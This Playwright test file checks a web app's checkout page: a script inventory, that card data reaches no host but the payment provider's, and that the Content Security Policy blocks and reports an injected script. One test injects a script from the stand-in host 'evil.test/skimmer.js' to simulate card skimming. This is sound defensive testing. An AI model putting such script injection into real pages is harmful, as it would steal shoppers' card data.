import { readFileSync } from "node:fs";
import type { CDPSession, Page } from "@playwright/test";
import { findFreePort } from "#src/db/embedded-process.ts";
import { expect, logIn, test } from "#testing/browser.ts";
import { cardInput, confirmButton, fillCard, stubProvider, testCard } from "#testing/checkout.ts";
import { liveEnv } from "#testing/live-env.ts";
import { bundleInlineScript } from "../vite.inline-scripts.ts";

const metricsToken = "a token of sixteen letters or more";
const port = String(await findFreePort());

// One worker, because each worker of this file starts a program of its own.
test.describe.configure({ mode: "default" });
test.use({
  // Playwright blocks them with a script of its own in the page.
  serviceWorkers: "allow",
  programEnv: {
    ...liveEnv,
    PORT: port,
    PUBLIC_URL: `http://127.0.0.1:${port}`,
    GA_MEASUREMENT_ID: "G-TEST1234",
    METRICS_TOKEN: metricsToken,
  },
});

test("the scripts that run on the checkout are those of docs/checkout-scripts.md", async ({
  page,
  newTenant,
}) => {
  await stubProvider(page);
  await logIn(page, await newTenant());
  // A page that still loads would find the consent and request Google's script.
  await page.goto("/healthz");
  await page.evaluate("localStorage.setItem('analytics-consent', 'granted')");
  const scripts = await watchScripts(page);
  await page.goto("/planos");
  await page.getByRole("link", { name: "Assinar Mensal" }).click();
  await fillCard(page);
  await expect(confirmButton(page)).toBeVisible();
  const inventory = readFileSync("docs/checkout-scripts.md", "utf8");
  const listed = [...inventory.matchAll(/^\| `([^`]+)` \|/gm)].map(([, name]) => name);
  await expect.poll(async () => [...(await scripts())].toSorted()).toEqual(listed.toSorted());
});

test.describe("with a filled-in card", () => {
  test.use({ allowedPageErrors: [/status of 50\d/] });

  test("no value of the card form is in a request to another host than the provider's", async ({
    page,
    newTenant,
  }) => {
    const others: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).hostname === "api.mercadopago.com") return;
      const text = `${request.url()} ${request.postData() ?? ""} ${JSON.stringify(request.headers())}`;
      others.push(decodeURIComponent(text));
    });
    const received = await stubProvider(page);
    await logIn(page, await newTenant());
    await page.goto("/planos?assinar=mensal");
    const holder = "MARIA TITULAR DO CARTAO";
    await fillCard(page, { holder });
    const response = page.waitForResponse("**/api/assinaturas/criar/");
    await confirmButton(page).click();
    // The API of the provider does not respond.
    expect((await response).status()).toBeGreaterThanOrEqual(500);
    // Leaving the page must not send the values either.
    await page.goto("/painel");

    const values = [...Object.values({ ...testCard, holder }), "5031433215406351", "52998224725"];
    expect(received).toHaveLength(1);
    expect(received[0]).toContain("5031433215406351");
    expect(others.join("\n")).toContain("token-of-the-test");
    for (const value of values) {
      // Digits of a longer number, such as a time, are not the value.
      const pattern = new RegExp(
        `(?<![\\w.])${value.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&")}(?!\\w)`,
      );
      expect(
        others.filter((text) => pattern.test(text)),
        value,
      ).toEqual([]);
    }
  });
});

test.describe("a script of another host", () => {
  test.use({ allowedPageErrors: [/Content Security Policy|no response: https:\/\/evil\.test/] });

  test("does not run, and the browser reports it to our endpoint", async ({
    page,
    newTenant,
    request,
  }) => {
    await stubProvider(page);
    await logIn(page, await newTenant());
    // Headless Chromium delivers no reports of `report-to`, and ignores `report-uri` beside it.
    await page.route("**/planos?assinar=mensal", async (route) => {
      const response = await route.fetch();
      const policy = response.headers()["content-security-policy"] ?? "";
      const headers = {
        ...response.headers(),
        "content-security-policy": policy.replace("report-to checkout; ", ""),
      };
      await route.fulfill({ response, headers });
    });
    await page.goto("/planos?assinar=mensal");
    await expect(cardInput(page, "number")).toBeVisible();
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "https://evil.test/skimmer.js";
      document.head.append(script);
    });
    const headers = { Authorization: `Bearer ${metricsToken}` };
    await expect
      .poll(async () => (await request.get("/metrics", { headers })).text())
      .toContain(
        'estrelou_checkout_policy_violations_total{directive="script-src",blocked="host"} 1',
      );
  });
});

/**
 * Watches every script that runs in the page. Returns a function that returns their names as the
 * inventory writes them. Scripts of the test itself run in another world of the page.
 */
async function watchScripts(page: Page): Promise<() => Promise<Set<string>>> {
  const session = await page.context().newCDPSession(page);
  const parsed: { scriptId: string; url: string }[] = [];
  session.on("Debugger.scriptParsed", ({ scriptId, url, executionContextAuxData }) => {
    if (executionContextAuxData?.isDefault) parsed.push({ scriptId, url });
  });
  await session.send("Debugger.enable");
  // Scripts of the page that was open before.
  parsed.length = 0;
  return async () => new Set(await Promise.all(parsed.map((one) => nameOf(session, one))));
}

const inlineScripts = {
  "inline theme": "src/ui/theme.inline.ts",
  "inline script watch": "src/features/site/document/script-watch.inline.ts",
};

async function nameOf(
  session: CDPSession,
  { scriptId, url }: { scriptId: string; url: string },
): Promise<string> {
  const { host, origin, pathname } = URL.canParse(url)
    ? new URL(url)
    : { host: "", origin: "", pathname: "" };
  if (!host.startsWith("127.0.0.1")) return url ? origin + pathname : "unnamed";
  if (/^\/assets\/[\w.-]+\.js$/.test(pathname)) return "/assets/*.js";
  if (pathname !== "/planos") return url;
  const { scriptSource } = await session.send("Debugger.getScriptSource", { scriptId });
  for (const [name, file] of Object.entries(inlineScripts)) {
    if (scriptSource === (await bundleInlineScript(file))) return name;
  }
  if (scriptSource.startsWith("window.__reactRouter")) return "inline router state";
  if (/^;?\s*import \* as route0/.test(scriptSource)) return "inline router start";
  if (scriptSource.startsWith("((storageKey")) return "inline scroll position";
  return `inline ${scriptSource.slice(0, 60)}`;
}
